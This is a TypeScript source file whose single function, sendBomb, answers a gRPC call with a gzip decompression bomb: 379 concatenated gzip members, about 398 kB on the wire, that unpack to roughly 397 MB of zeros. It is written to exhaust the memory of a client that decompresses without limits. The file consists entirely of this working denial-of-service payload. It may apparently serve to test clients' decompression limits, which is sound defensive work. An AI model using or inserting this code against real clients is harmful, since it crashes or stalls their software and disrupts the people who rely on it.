import type { Http2ServerResponse } from 'node:http2';
import { gzipSync } from 'node:zlib';

/** Members of gzip may follow each other; each of these unpacks to 1 MiB. */
const MEMBERS = 379;

/** Answers a gRPC call with one compressed message of 398 kB that unpacks to 397 MB of zeros. */
export function sendBomb(response: Http2ServerResponse): void {
  const packed = Buffer.concat(Array<Buffer>(MEMBERS).fill(gzipSync(Buffer.alloc(1_048_576))));
  const head = Buffer.alloc(5);
  head.writeUInt8(1, 0);
  head.writeUInt32BE(packed.length, 1);
  response.writeHead(200, { 'content-type': 'application/grpc+proto', 'grpc-encoding': 'gzip' });
  response.write(head);
  response.write(packed);
  response.addTrailers({ 'grpc-status': '0' });
  response.end();
}
